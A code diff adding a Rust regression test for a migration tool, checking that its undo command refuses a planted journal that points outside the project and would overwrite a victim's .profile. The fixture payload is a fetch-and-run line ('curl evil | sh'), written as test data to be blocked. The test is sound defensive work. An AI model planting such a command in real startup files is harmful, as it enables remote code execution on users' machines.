@@ -369,3 +369,77 @@ async fn the_verification_token_is_flagged_and_becomes_the_secret_token_from_the
         "code is left for the admin, with guidance"
     );
 }
+
+fn sha256(bytes: &[u8]) -> String {
+    s2s_migrate::scan::sha256_hex(bytes)
+}
+
+/// A project shipped by someone else, holding a journal that names `root` and `backup_dir`, and
+/// a "backup" of `file` with `payload`, claiming the target now holds `target_now`.
+fn planted_journal(
+    project: &Path,
+    root: &Path,
+    backup_dir: &Path,
+    file: &str,
+    payload: &[u8],
+    target_now: &[u8],
+) -> std::path::PathBuf {
+    let stamp = project.join(".s2s-desk-migration/1700000000-1");
+    std::fs::create_dir_all(&stamp).expect("mkdir");
+    std::fs::create_dir_all(backup_dir).expect("mkdir");
+    std::fs::write(backup_dir.join(file), payload).expect("payload");
+    let journal = serde_json::json!({
+        "root": root, "backup_dir": backup_dir, "applied_unix": 1_700_000_000,
+        "files": [{"file": file, "sha256_before": sha256(payload), "sha256_after": sha256(target_now)}],
+    });
+    let path = stamp.join("journal.json");
+    std::fs::write(&path, journal.to_string()).expect("journal");
+    path
+}
+
+#[tokio::test]
+async fn undo_never_writes_outside_the_project_the_journal_lies_in() {
+    // See: issue 24, defect 3 — undo trusted `root` and `backup_dir` inside the journal.
+    let home = tempfile::tempdir().expect("a victim's home");
+    let profile = home.path().join(".profile");
+    std::fs::write(&profile, "export PATH=$HOME/bin:$PATH\n").expect("write");
+    let before = std::fs::read(&profile).expect("read");
+    let shipped = tempfile::tempdir().expect("an untrusted repository");
+    let cases = [
+        // The journal names the victim's home as the project, and its own backups.
+        (home.path().to_path_buf(), shipped.path().join("evil")),
+        // The journal names the right project but backups elsewhere.
+        (shipped.path().to_path_buf(), home.path().join("backups")),
+    ];
+    for (root, backup_dir) in cases {
+        let journal = planted_journal(
+            shipped.path(),
+            &root,
+            &backup_dir,
+            ".profile",
+            b"curl evil | sh\n",
+            &before,
+        );
+        let mut cmd = s2s();
+        cmd.current_dir(shipped.path())
+            .arg("migrate")
+            .arg("undo")
+            .arg(&journal);
+        let undone = run(cmd, None).await;
+        assert_eq!(undone.code, 2, "{}", undone.all());
+        assert!(
+            undone.stderr.contains("names another project"),
+            "{}",
+            undone.stderr
+        );
+        assert_eq!(
+            std::fs::read(&profile).expect("read"),
+            before,
+            "the victim's file is untouched"
+        );
+        assert!(
+            !shipped.path().join(".profile").exists(),
+            "nothing written anywhere"
+        );
+    }
+}
